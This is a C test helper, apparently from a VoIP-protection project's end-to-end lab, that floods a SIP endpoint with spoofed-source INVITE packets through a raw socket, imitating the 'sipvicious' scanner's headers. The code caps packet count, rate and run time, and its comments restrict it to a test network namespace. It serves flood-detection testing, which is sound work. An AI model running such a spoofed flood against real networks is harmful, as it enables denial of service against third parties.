/*
 * spoof-flood: a spoofed-source SIP flood for ghostguard's e2e lab (test/e2e/flood.test.ts).
 *
 * Sends COUNT UDP datagrams, each a small SIP INVITE, to DEST_IP:DEST_PORT from random source
 * addresses inside SRC_NET/PREFIX, through a raw socket with IP_HDRINCL (the kernel fills in the IP
 * checksum and total length; the UDP checksum is 0, "none", which IPv4 allows). Node cannot do this.
 *
 * Bounded: COUNT <= 1,000,000 datagrams, RATE <= 50,000 per second, and the whole run stops after
 * MAX_SECONDS whatever happens. Only run it inside a network namespace the test created: it needs
 * root (CAP_NET_RAW) and must never send a spoofed packet onto a real network.
 *
 * usage: spoof-flood DEST_IP DEST_PORT SRC_NET PREFIX COUNT RATE SEED
 * prints: "spoof-flood: sent N datagrams from M distinct sources in T ms"
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_COUNT 1000000L
#define MAX_RATE 50000L
#define MAX_SECONDS 120.0

static uint64_t rng_state;

/* xorshift64*: a fixed seed gives the same sources every run. */
static uint32_t next_random(void) {
  rng_state ^= rng_state >> 12;
  rng_state ^= rng_state << 25;
  rng_state ^= rng_state >> 27;
  return (uint32_t)((rng_state * 2685821657736338717ULL) >> 32);
}

static double now_seconds(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static long parse_long(const char *text, long min, long max, const char *what) {
  char *end = NULL;
  errno = 0;
  long value = strtol(text, &end, 10);
  if (errno != 0 || end == text || *end != '\0' || value < min || value > max) {
    fprintf(stderr, "spoof-flood: %s must be a number in %ld..%ld, got \"%s\"\n", what, min, max, text);
    exit(2);
  }
  return value;
}

int main(int argc, char **argv) {
  if (argc != 8) {
    fprintf(stderr, "usage: spoof-flood DEST_IP DEST_PORT SRC_NET PREFIX COUNT RATE SEED\n");
    return 2;
  }
  struct in_addr dest, net;
  if (inet_pton(AF_INET, argv[1], &dest) != 1 || inet_pton(AF_INET, argv[3], &net) != 1) {
    fprintf(stderr, "spoof-flood: DEST_IP and SRC_NET must be IPv4 addresses\n");
    return 2;
  }
  long port = parse_long(argv[2], 1, 65535, "DEST_PORT");
  long prefix = parse_long(argv[4], 8, 30, "PREFIX");
  long count = parse_long(argv[5], 1, MAX_COUNT, "COUNT");
  long rate = parse_long(argv[6], 1, MAX_RATE, "RATE");
  rng_state = (uint64_t)parse_long(argv[7], 1, 0x7fffffffL, "SEED") * 0x9E3779B97F4A7C15ULL;

  int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (fd < 0) {
    perror("spoof-flood: socket(SOCK_RAW) (needs root)");
    return 1;
  }
  int on = 1;
  if (setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &on, sizeof on) < 0) {
    perror("spoof-flood: IP_HDRINCL");
    return 1;
  }

  uint32_t base = ntohl(net.s_addr) & (uint32_t)(0xffffffffUL << (32 - prefix));
  uint32_t hosts = (uint32_t)1 << (32 - prefix);
  struct sockaddr_in to;
  memset(&to, 0, sizeof to);
  to.sin_family = AF_INET;
  to.sin_addr = dest;

  unsigned char packet[1500];
  /* A bitmap of the sources used, to report how many were distinct (at most a /8: 2 MiB). */
  unsigned char *seen = calloc(hosts / 8 + 1, 1);
  if (seen == NULL) return 1;
  long distinct = 0, sent = 0;
  double start = now_seconds();
  for (long i = 0; i < count; i++) {
    double due = start + (double)i / (double)rate;
    double now = now_seconds();
    if (now - start > MAX_SECONDS) break;
    if (due > now) {
      struct timespec pause = {(time_t)(due - now), (long)((due - now - (double)(time_t)(due - now)) * 1e9)};
      nanosleep(&pause, NULL);
    }
    uint32_t offset = 1 + next_random() % (hosts - 2); /* neither the network nor the broadcast address */
    if (!(seen[offset / 8] & (1u << (offset % 8)))) {
      seen[offset / 8] |= (unsigned char)(1u << (offset % 8));
      distinct++;
    }
    struct in_addr src = {htonl(base + offset)};
    char src_text[INET_ADDRSTRLEN];
    char dest_text[INET_ADDRSTRLEN];
    inet_ntop(AF_INET, &src, src_text, sizeof src_text);
    inet_ntop(AF_INET, &dest, dest_text, sizeof dest_text);

    size_t header = sizeof(struct iphdr) + sizeof(struct udphdr);
    int body = snprintf((char *)packet + header, sizeof packet - header,
                        "INVITE sip:100@%s:%ld SIP/2.0\r\n"
                        "Via: SIP/2.0/UDP %s:5060;branch=z9hG4bK-spoof-%ld;rport\r\n"
                        "Max-Forwards: 70\r\n"
                        "From: \"sipvicious\"<sip:100@1.1.1.1>;tag=sp%ld\r\n"
                        "To: \"sipvicious\"<sip:100@1.1.1.1>\r\n"
                        "Call-ID: spoof-%ld@%s\r\n"
                        "CSeq: 1 INVITE\r\n"
                        "User-Agent: friendly-scanner\r\n"
                        "Content-Length: 0\r\n\r\n",
                        dest_text, port, src_text, i, i, i, src_text);
    if (body < 0 || (size_t)body >= sizeof packet - header) return 1;

    struct iphdr *ip = (struct iphdr *)packet;
    memset(ip, 0, sizeof *ip);
    ip->version = 4;
    ip->ihl = 5;
    ip->ttl = 64;
    ip->protocol = IPPROTO_UDP;
    ip->saddr = src.s_addr;
    ip->daddr = dest.s_addr;
    ip->tot_len = htons((uint16_t)(header + (size_t)body));
    struct udphdr *udp = (struct udphdr *)(packet + sizeof *ip);
    udp->source = htons(5060);
    udp->dest = htons((uint16_t)port);
    udp->len = htons((uint16_t)(sizeof *udp + (size_t)body));
    udp->check = 0;

    if (sendto(fd, packet, header + (size_t)body, 0, (struct sockaddr *)&to, sizeof to) < 0) {
      if (errno == ENOBUFS || errno == EAGAIN) continue; /* a full queue: that datagram is lost, as on a wire */
      perror("spoof-flood: sendto");
      return 1;
    }
    sent++;
  }
  double ms = (now_seconds() - start) * 1000.0;
  printf("spoof-flood: sent %ld datagrams from %ld distinct sources in %.0f ms\n", sent, distinct, ms);
  free(seen);
  close(fd);
  return 0;
}
